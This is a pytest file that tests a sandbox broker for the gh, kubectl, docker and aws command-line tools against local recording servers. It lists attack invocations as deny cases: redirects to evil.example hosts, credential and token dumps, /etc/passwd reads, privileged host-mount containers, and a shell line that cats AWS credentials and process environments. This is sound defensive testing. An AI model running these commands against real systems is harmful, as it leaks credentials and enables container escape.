"""Tests gh, kubectl, docker and aws themselves against servers on this machine that record what they are asked."""

from __future__ import annotations

import json
import os
import socketserver
import ssl
import subprocess
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest
from brokers import UNJUDGED, brokered

from corral import Containment, SandboxConfig
from corral.broker.commands.command_service import CommandService
from corral.broker.commands.remote_slug import Remote

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.real

TOKEN = "gho_0123456789abcdefghij"
ADDRESS = f"127.{100 + os.getpid() % 100}.{os.getpid() // 100 % 250}.7"  # of this run alone
Recorded = list[tuple[str, str, str, bytes]]  # method, path, Authorization, body


def handler(recorded: Recorded, answers: dict[str, object]) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self) -> None:
            if "chunked" in self.headers.get("Transfer-Encoding", ""):
                body = b""
                while size := int(self.rfile.readline(), 16):
                    body += self.rfile.read(size)
                    self.rfile.readline()
                self.rfile.readline()
            else:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            recorded.append((self.command, self.path, self.headers.get("Authorization", ""), body))
            found = next((data for part, data in answers.items() if part in self.path), None)
            data = json.dumps({"message": "absent"} if found is None else found).encode()
            self.send_response(404 if found is None else 200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Api-Version", "1.41")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(data)

        do_GET = do_POST = do_HEAD = do_PATCH = do_DELETE = answer

        def log_message(self, *_: object) -> None:
            """Print nothing."""

    return Handler


@contextmanager
def serving(server: socketserver.BaseServer) -> Iterator[None]:
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@contextmanager
def tls_server(folder: Path, name: str, port: int, answers: dict[str, object]) -> Iterator[tuple[int, Recorded, Path]]:
    """Serve a name by TLS, and yield the port, the requests, and the certificate."""
    certificate, key = folder / "certificate.pem", folder / "key.pem"
    words = [
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
        "-days",
        "2",
    ]
    more = [
        "-subj",
        f"/CN={name}",
        "-addext",
        f"subjectAltName=DNS:{name}",
        "-keyout",
        str(key),
        "-out",
        str(certificate),
    ]
    subprocess.run([*words, *more], check=True, capture_output=True)
    recorded: Recorded = []
    server = ThreadingHTTPServer((ADDRESS, port), handler(recorded, answers))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    with serving(server):
        yield server.server_address[1], recorded, certificate


class Engine(socketserver.ThreadingUnixStreamServer):
    """An engine of docker that only records."""

    daemon_threads = True

    def get_request(self) -> tuple[object, object]:  # type: ignore[override]  # the handler wants an address
        sock, _ = super().get_request()
        return sock, ("engine", 0)


def config_for(project: Path, *hosts: str) -> SandboxConfig:
    return SandboxConfig(str(project), profile=UNJUDGED, timeout_seconds=300, containment=Containment(hosts=hosts))


def home_with(tmp_path: Path, name: str, text: str) -> dict[str, str]:
    path = tmp_path / "home" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    plain = {name: value for name, value in os.environ.items() if not name.startswith(("GH_", "GITHUB_", "SSL_"))}
    return plain | {"HOME": str(tmp_path / "home")}


PULLS = [{"title": "Fix login", "number": 3}]


@pytest.mark.skipif(os.geteuid() != 0, reason="gh only connects to port 443")
def test_gh_reads_with_the_users_token(tmp_path: Path, project: Path) -> None:
    environ = home_with(tmp_path, ".config/gh/hosts.yml", f"forge.example:\n    oauth_token: {TOKEN}\n    user: ann\n")
    targets = ("gh/read", "gh/api-get")
    with tls_server(tmp_path, "forge.example", 443, {"/pulls": PULLS}) as (_, recorded, certificate):
        environ["SSL_CERT_FILE"] = str(certificate)
        config = config_for(project, f"forge.example={ADDRESS}")
        service = CommandService(config, "gh", targets, Remote("forge.example", "owner/name"), environ)
        with brokered(config, {"gh": service}) as (box, _):
            result = box.run(["gh", "api", "repos/{owner}/{repo}/pulls", "--jq", ".[].title"])
            assert (result.exit_code, result.stdout) == (0, b"Fix login\n"), result
            assert recorded == [("GET", "/api/v3/repos/owner/name/pulls", f"token {TOKEN}", b"")]
            for words in GH_ATTACKS:
                refused = box.run(["gh", *words])
                assert (refused.exit_code, refused.stdout) == (126, b""), words
        assert len(recorded) == 1
        # The canary: gh itself prints the token.
        itself = environ | {"GH_TOKEN": TOKEN, "GH_ENTERPRISE_TOKEN": TOKEN, "GH_HOST": "forge.example"}
        printed = subprocess.run(
            ["gh", "auth", "token", "-h", "forge.example"], env=itself, capture_output=True, text=True, check=False
        )
        assert TOKEN in printed.stdout


GH_ATTACKS = [
    ["api", "repos/owner/name/pulls", "--jq", "env.GH_TOKEN"],
    ["api", "repos/owner/name/pulls", "--jq", "$ENV"],
    ["auth", "token"],
    ["auth", "status", "-t"],
    ["config", "set", "pager", "id"],
    ["alias", "set", "--shell", "x", "id"],
    ["extension", "exec", "x"],
    ["api", "https://evil.example/x"],
    ["api", "repos/owner/name/pulls", "--hostname", "evil.example"],
    ["pr", "checkout", "3"],
    ["pr", "list", "--web"],
]


AWS_SECRET = "wJalrXUtnFEMIexampleSECRETexample0123456"
FUNCTIONS = {"Functions": [{"FunctionName": "resize"}]}
AWS_NAMES = [
    "lambda",
    "list-functions",
    "--region",
    "eu-west-1",
    "--query",
    "Functions[].FunctionName",
    "--output",
    "text",
]
AWS_ATTACKS = [
    ["configure", "get", "aws_secret_access_key"],
    ["configure", "list"],
    ["sts", "get-session-token"],
    ["lambda", "list-functions", "--endpoint-url", "https://evil.example"],
    ["lambda", "list-functions", "--debug"],
    ["lambda", "list-functions", "--cli-input-json", "file:///etc/passwd"],
    ["lambda", "list-functions", "--query", "file:///etc/passwd"],
    ["lambda", "list-functions", "--no-verify-ssl"],
    ["lambda", "delete-function", "--function-name", "resize"],
    ["s3", "presign", "s3://bucket/key"],
    ["s3", "cp", "s3://bucket/key", "/tmp/x"],
    ["eks", "get-token", "--cluster-name", "x"],
    ["exec", "id"],
]


@pytest.mark.skipif(os.geteuid() != 0, reason="aws only connects to port 443")
def test_aws_reads_with_the_users_key(tmp_path: Path, project: Path) -> None:
    name = "lambda.eu-west-1.amazonaws.com"
    keys = f"[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = {AWS_SECRET}\n"
    environ = home_with(tmp_path, ".aws/credentials", keys)
    (tmp_path / "home/.aws/cli").mkdir()
    (tmp_path / "home/.aws/cli/alias").write_text(f"[toplevel]\nexec = !touch {tmp_path}/proof\n")
    with tls_server(tmp_path, name, 443, {"/functions": FUNCTIONS}) as (_, recorded, certificate):
        environ["AWS_CA_BUNDLE"] = str(certificate)
        config = config_for(project, f"{name}={ADDRESS}")
        service = CommandService(config, "aws", ("aws/read",), None, environ)
        with brokered(config, {"aws": service}) as (box, _):
            result = box.run(["aws", *AWS_NAMES])
            assert (result.exit_code, result.stdout) == (0, b"resize\n"), result
            ((method, path, signed, body),) = recorded
            assert (method, path.rstrip("/"), body) == ("GET", "/2015-03-31/functions", b"")
            assert signed.startswith("AWS4-HMAC-SHA256 Credential=AKIAEXAMPLE/")
            for words in AWS_ATTACKS:
                refused = box.run(["aws", *words])
                assert (refused.exit_code, refused.stdout) == (126, b""), words
            seen = box.run(["sh", "-c", "env; cat ~/.aws/credentials /proc/*/environ"])
            assert AWS_SECRET.encode() not in seen.stdout + seen.stderr
        assert len(recorded) == 1
        assert not (tmp_path / "proof").exists()
        # The canary: aws itself prints the key, and runs the alias.
        plain = ["aws", "configure", "get", "aws_secret_access_key"]
        assert AWS_SECRET in subprocess.run(plain, env=environ, capture_output=True, text=True, check=False).stdout
        subprocess.run(["aws", "exec"], env=environ, capture_output=True, check=False)
        assert (tmp_path / "proof").exists()


def test_kubectl_asks_the_users_cluster(tmp_path: Path, project: Path) -> None:
    version = {"major": "1", "minor": "30", "gitVersion": "v1.30.0", "platform": "linux/amd64"}
    with tls_server(tmp_path, "cluster.example", 0, {"/version": version}) as (port, recorded, certificate):
        kube = (
            "apiVersion: v1\nkind: Config\ncurrent-context: test\n"
            f"clusters:\n- name: test\n  cluster:\n    server: https://cluster.example:{port}\n    certificate-authority: {certificate}\n"
            f"users:\n- name: ann\n  user:\n    token: {TOKEN}\ncontexts:\n- name: test\n  context:\n    cluster: test\n    user: ann\n"
        )
        environ = home_with(tmp_path, ".kube/config", kube)
        config = config_for(project, f"cluster.example={ADDRESS}")
        service = CommandService(config, "kubectl", ("kubectl/read", "kubectl/apply"), None, environ)
        with brokered(config, {"kubectl": service}) as (box, _):
            result = box.run(["kubectl", "version", "--output", "json"])
            assert (result.exit_code, json.loads(result.stdout)["serverVersion"]["gitVersion"]) == (0, "v1.30.0"), (
                result
            )
            assert {(method, path.partition("?")[0], token) for method, path, token, _ in recorded} == {
                ("GET", "/version", f"Bearer {TOKEN}")
            }
            count = len(recorded)
            for words in KUBECTL_ATTACKS:
                refused = box.run(["kubectl", *words])
                assert (refused.exit_code, refused.stdout) == (126, b""), words
        assert len(recorded) == count
        # The canary: kubectl itself prints the token.
        printed = subprocess.run(
            ["kubectl", "config", "view", "--raw"], env=environ, capture_output=True, text=True, check=True
        )
        assert TOKEN in printed.stdout


KUBECTL_ATTACKS = [
    ["config", "view", "--raw"],
    ["get", "secrets", "-A", "-o", "yaml"],
    ["get", "--raw", "/api/v1/secrets"],
    ["version", "-v=9"],
    ["version", "--server", "https://evil.example"],
    ["version", "--kubeconfig", "own"],
    ["apply", "-k", "."],
    ["apply", "-f", "https://evil.example/x.yaml"],
    ["exec", "api-0", "--", "id"],
    ["create", "token", "default"],
    ["plugin", "list"],
]


def test_docker_gets_only_what_the_shapes_allow(tmp_path: Path, project: Path) -> None:
    environ = home_with(tmp_path, ".docker/config.json", "{}")
    path = tmp_path / "engine.sock"
    environ["DOCKER_HOST"] = f"unix://{path}"
    recorded: Recorded = []
    created = {"Id": "a" * 64, "Warnings": []}
    answers: dict[str, object] = {"/_ping": "OK", "/containers/json": [], "/containers/create": created}
    with serving(Engine(str(path), handler(recorded, answers))):
        config = config_for(project)
        service = CommandService(config, "docker", ("docker/read", "docker/run"), None, environ)
        with brokered(config, {"docker": service}) as (box, _):
            result = box.run(["docker", "ps", "--all", "--format", "{{.Names}}"])
            assert result.exit_code == 0, result
            box.run(["docker", "run", "--rm", "-e", "A=1", "alpine", "sh", "-c", "echo -v /:/host"])
            (body,) = [json.loads(body) for _, path_, _, body in recorded if "/containers/create" in path_]
            host = body["HostConfig"]
            assert (body["Cmd"], body["Env"], body["Labels"]) == (
                ["sh", "-c", "echo -v /:/host"],
                ["A=1"],
                {"corral": "broker"},
            )
            assert (host["Binds"], host["CapDrop"], host["NetworkMode"], host["Privileged"]) == (
                None,
                ["ALL"],
                "none",
                False,
            )
            assert (host["SecurityOpt"], host["PidsLimit"], host["CapAdd"]) == (["no-new-privileges"], 512, None)
            count = len(recorded)
            for words in DOCKER_ATTACKS:
                refused = box.run(["docker", *words])
                assert (refused.exit_code, refused.stdout) == (126, b""), words
        assert len(recorded) == count
        # The canary: docker itself asks the engine to mount the machine.
        subprocess.run(
            ["docker", "run", "--rm", "-v", "/:/host", "alpine"], env=environ, capture_output=True, check=False
        )
        assert any(b'"Binds":["/:/host"]' in body for _, _, _, body in recorded[count:])


DOCKER_ATTACKS = [
    ["run", "--rm", "-v", "/:/host", "alpine"],
    ["run", "--rm", "--privileged", "alpine"],
    ["run", "--rm", "--network", "host", "alpine"],
    ["run", "--rm", "--pid=host", "alpine"],
    ["-H", "tcp://evil.example:2375", "ps"],
    ["exec", "other", "id"],
    ["cp", "other:/etc/passwd", "."],
    ["compose", "up"],
    ["build", "."],
    ["login", "registry.example"],
    ["push", "app"],
]
